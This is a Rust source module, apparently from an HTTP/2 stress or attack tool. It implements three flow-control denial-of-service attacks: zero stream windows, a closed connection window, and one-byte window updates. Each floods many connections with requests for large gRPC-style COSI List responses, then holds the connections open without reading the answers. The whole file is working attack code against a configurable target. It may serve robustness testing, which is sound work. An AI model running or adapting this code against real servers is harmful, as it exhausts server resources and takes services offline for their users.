//! Clients that ask and do not take the answer: no window for the streams, or none for the connection.

use std::time::Duration;

use futures_util::future::try_join_all;

use crate::wire::{END_STREAM, Http2, call, frame, headers, kind, request, setting, stream};
use crate::{Attack, Fault, Form, Load, Port, Target, attack};

pub(crate) const ALL: &[Attack] = &[
    Attack::quick("stream-window-zero", attack!(streams_closed)),
    Attack::quick("connection-window-closed", attack!(connection_closed)),
    Attack::quick("window-of-single-bytes", attack!(single_bytes)),
];

/// Calls of one connection.
const CALLS: u64 = 100;
/// Number of the setting for the first window of each stream.
const INITIAL_WINDOW: u16 = 4;
/// Number of the setting for the largest frame.
const FRAMES: u16 = 5;

/// A call whose answer is large, where the port has one.
fn large(port: Port, stream: u32) -> Vec<u8> {
    if port == Port::Trust {
        return call(stream, port.path());
    }
    // ListRequest{1 namespace, 2 type}.
    let mut message = vec![0x0a, 4];
    message.extend(b"meta");
    message.extend([0x12, 33]);
    message.extend(b"ResourceDefinitions.meta.cosi.dev");
    let length = u32::try_from(message.len()).unwrap_or_default().to_be_bytes();
    let body = [&[0][..], &length, &message].concat();
    let head = headers(stream, &request("/cosi.resource.State/List"), false);
    [head, frame(kind::DATA, END_STREAM, stream, &body)].concat()
}

/// Asks on many connections and holds what it does not take for a while, with pings answered by nobody.
async fn hold(
    target: &Target,
    form: Form,
    settings: Vec<u8>,
    each: impl Fn(u64) -> Vec<u8>,
) -> Result<Load, Fault> {
    let connections = form.count(4, 64);
    let held = Duration::from_millis(form.count(500, 10_000));
    let one = async || {
        let mut connection = Http2::open(target, &settings).await?;
        for number in 0..CALLS {
            // An error is the server's answer.
            if connection.send(&each(number)).await.is_err() {
                break;
            }
        }
        tokio::time::sleep(held).await;
        Ok::<_, Fault>(())
    };
    try_join_all((0..connections).map(|_| one())).await?;
    Ok(Load { connections, attempts: connections.saturating_mul(CALLS) })
}

async fn streams_closed(target: Target, form: Form) -> Result<Load, Fault> {
    let port = target.port;
    hold(&target, form, setting(INITIAL_WINDOW, 0), |number| large(port, stream(number))).await
}

/// Streams have room for everything, the connection keeps the 64 KiB that it begins with.
async fn connection_closed(target: Target, form: Form) -> Result<Load, Fault> {
    let port = target.port;
    hold(&target, form, setting(INITIAL_WINDOW, u32::MAX >> 1), |number| large(port, stream(number))).await
}

/// Each stream gets one byte more, again and again.
async fn single_bytes(target: Target, form: Form) -> Result<Load, Fault> {
    let port = target.port;
    let settings = [setting(INITIAL_WINDOW, 1), setting(FRAMES, 16 << 10)].concat();
    hold(&target, form, settings, |number| {
        let mut bytes = large(port, stream(number));
        for stream in (0..=number).map(stream) {
            bytes.extend(frame(kind::WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes()));
        }
        bytes
    })
    .await
}
